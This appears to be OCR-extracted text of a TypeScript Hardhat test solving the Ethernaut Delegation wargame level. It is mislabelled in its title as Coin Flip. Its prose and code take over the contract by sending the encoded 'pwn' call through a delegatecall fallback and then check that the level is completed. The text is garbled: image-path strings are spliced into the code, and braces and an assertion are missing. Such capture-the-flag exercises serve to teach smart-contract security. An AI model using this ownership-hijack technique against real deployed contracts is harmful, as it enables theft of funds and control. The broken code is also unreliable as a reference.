Ethernaut 6: Coin Flip

import {artifacts, ethers} from 'hardhat'
import {Contract, Signer} from 'ethers'

import {ETHERNAUT_ADDRESS, expect, expectStatusOK} from './testUtil'

const LEVEL_ADDRESS = '0x9451961b7Aea1Df57bc20CC68D72f662241b5493'const INSTANCE_ADDRESS = '0x0C2Ac4E510561942eb130a6598a94abE24fF3Ae0'

describe('06 Delegation', () => {
let ethernaut: Contract
let instance: Contract
let signer: Signer
let signerAddress: string

before(async ()=> {
ethernaut = await ethers.getContractAt('Ethernaut', ETHERNAUT_ADDRESS)
instance = await ethers.getContractAt('Delegation', INSTANCE_ADDRESS)

const signers = await ethers.getSigners()
signer = signers[0]
signerAddress = await signer.getAddress()

Delegation has a fallback function which relays whatever call data is sent to Delegate, which it calls using delegatecall. Since Delegate has a pwn function which sets owner to msg.sender, we become owner by executing that function in the context of Delegation. This is achieved by sending the function signature of pwn as call data in the transaction.

  it("sends tx with encoded 'pwn' function data to instance", async () => {
const delegateArtifact = await artifacts.readArtifact('Delegate')
const iface = new ethers.utils.Interface(delegateArtifact.abi)
const fndata = iface.encodeFunctionData('pwn')
const params = {
to: instance.address,
data: fndata,
gasLimit: 1000000,
const tx = await signer.sendTransaction(params)
return expectStatusOK(tx)

it('has become owner', async () => {const ownerAddr = await instance.owner()

it('is validated', async () => {
returnexpect(ethernaut.submitLevelInstance(instance.address, {gasLimit:100000}))
.to.emit(ethernaut, 'LevelCompletedLog').withArgs(signerAddress,LEVEL_ADDRESS).eventually